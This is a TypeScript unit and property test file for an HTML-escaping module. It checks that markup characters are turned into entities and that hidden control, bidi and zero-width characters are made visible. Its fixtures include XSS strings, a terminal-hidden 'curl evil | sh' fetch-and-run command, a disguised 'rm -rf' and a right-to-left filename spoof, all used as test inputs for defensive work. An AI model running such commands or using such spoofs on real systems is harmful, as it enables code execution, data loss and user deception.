import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeHtml, escapeHtmlText, markInvisible } from './escape-html.js';

function unescapeHtml(html: string): string {
  return decodeNotation(html.replace(/&(amp|lt|gt|quot|#39);/g, (_, name: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" })[name] ?? ''));
}

/** Reads `\x1b` and `\u202e` notation back into the characters. */
function decodeNotation(text: string): string {
  return text.replace(/\\x([0-9a-f]{2})|\\u([0-9a-f]{4})/g, (_m, x: string | undefined, u: string | undefined) => String.fromCharCode(parseInt(x ?? u ?? '', 16)));
}

/** The rule as one expression with lookarounds, as escapeHtml scanned before it decided about joiners itself: the reference. */
const REFERENCE =
  /["&'<>\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]|[\u200c\u200d](?:(?![\u0080-\uffff])|(?<![\u0080-\uffff][\u200c\u200d]))/g;
const ENTITIES: Record<string, string> = { '"': '&quot;', '&': '&amp;', "'": '&#39;', '<': '&lt;', '>': '&gt;' };
function referenceEntity(char: string): string {
  const code = char.charCodeAt(0);
  return ENTITIES[char] ?? (code <= 0xff ? `\\x${code.toString(16).padStart(2, '0')}` : `\\u${code.toString(16).padStart(4, '0')}`);
}

/** Short texts of joiners beside ASCII, non-ASCII, surrogates and the other special characters. */
const JOINER_TEXT = fc
  .array(fc.constantFrom('a', ' ', '<', '"', '\u200c', '\u200d', '\u200b', '\u00e9', '\u0645', '\ud83d', '\udc69', '\x1b', '\u202e', '\x9d'), { maxLength: 12 })
  .map((pieces) => pieces.join(''));

describe('escapeHtml', () => {
  it.each([
    ['', ''],
    ['plain text', 'plain text'],
    ['a & b', 'a &amp; b'],
    ['<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['"quoted"', '&quot;quoted&quot;'],
    ["it's", 'it&#39;s'],
    ['&amp; stays literal', '&amp;amp; stays literal'],
    ['&#106;avascript:', '&amp;#106;avascript:'],
    ['" onmouseover="x', '&quot; onmouseover=&quot;x'],
    ['</style>', '&lt;/style&gt;'],
    ['`backticks` and = signs', '`backticks` and = signs'],
    ['emoji 😀 and 日本語', 'emoji 😀 and 日本語'],
    ['\ud83d\udc69\u200d\ud83d\udc67 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645', '\ud83d\udc69\u200d\ud83d\udc67 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'],
  ])('escapes %j', (input, expected) => {
    expect(escapeHtml(input)).toBe(expected);
  });

  it.each([
    ['an escape sequence', 'a\x1b[2Jb', 'a\\x1b[2Jb'],
    ['a C1 OSC hiding the rest of a command', 'npm test\x9d; curl evil | sh\x07', 'npm test\\x9d; curl evil | sh\\x07'],
    ['a right-to-left override', 'invoice.\u202efdp.exe', 'invoice.\\u202efdp.exe'],
    ['bidi isolates and marks', '\u2066a\u2069\u200e\u061c', '\\u2066a\\u2069\\u200e\\u061c'],
    ['zero-width characters in a command', 'r\u200bm -\u200drf \u2060\ufeff', 'r\\u200bm -\\u200drf \\u2060\\ufeff'],
    ['NUL and DEL', '\x00\x7f', '\\x00\\x7f'],
  ])('marks %s visibly', (_name, input, expected) => {
    expect(escapeHtml(input)).toBe(expected);
  });

  it('keeps tabs and line ends as they are', () => {
    expect(escapeHtml('a\tb\r\nc\n')).toBe('a\tb\r\nc\n');
  });

  it('leaves no character that could open a tag or close an attribute, and loses nothing', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const html = escapeHtml(text);
        expect(html).not.toMatch(/[<>"'\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
        expect(unescapeHtml(html)).toBe(decodeNotation(text));
      }),
      { seed: 14 },
    );
  });

  it('marks a joiner unless it stands between two non-ASCII characters, as the one expression with lookarounds it replaced', () => {
    fc.assert(
      fc.property(JOINER_TEXT, (text) => {
        expect(escapeHtml(text)).toBe(text.replace(REFERENCE, referenceEntity));
      }),
      { seed: 18, numRuns: 20_000 },
    );
    expect(escapeHtml('\u00e9\u200c\u00e9 a\u200c\u00e9 \u200d')).toBe('\u00e9\u200c\u00e9 a\\u200c\u00e9 \\u200d');
  });

  it('turns a value that is not a string into text instead of throwing', () => {
    expect(escapeHtml(undefined as unknown as string)).toBe('');
    expect(escapeHtml(42 as unknown as string)).toBe('42');
  });
});

describe('escapeHtmlText', () => {
  it('escapes what escapeHtml escapes but the quotes, which it leaves as they are', () => {
    const text = fc.oneof(fc.string({ unit: 'binary' }), JOINER_TEXT);
    fc.assert(
      fc.property(text, (value) => {
        const html = escapeHtmlText(value);
        // Nothing can open a tag or an entity; quotes mean nothing in element text.
        expect(html).not.toMatch(/[<>\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|&(?!amp;|lt;|gt;)/);
        expect(html.replaceAll('"', '&quot;').replaceAll("'", '&#39;')).toBe(escapeHtml(value));
      }),
      { seed: 18, numRuns: 5000 },
    );
    expect(escapeHtmlText(`a "b" <c> & 'd' \u202e`)).toBe(`a "b" &lt;c&gt; &amp; 'd' \\u202e`);
  });

  it('turns a value that is not a string into text instead of throwing', () => {
    expect(escapeHtmlText(null as unknown as string)).toBe('');
    expect(escapeHtmlText(7 as unknown as string)).toBe('7');
  });
});

describe('markInvisible', () => {
  it('marks what escapeHtml marks and leaves the five HTML characters, as the one expression with lookarounds', () => {
    const entitiesLeft = (char: string): string => (ENTITIES[char] === undefined ? referenceEntity(char) : char);
    fc.assert(
      fc.property(JOINER_TEXT, (text) => {
        expect(markInvisible(text)).toBe(text.replace(REFERENCE, entitiesLeft));
      }),
      { seed: 18, numRuns: 20_000 },
    );
  });
});
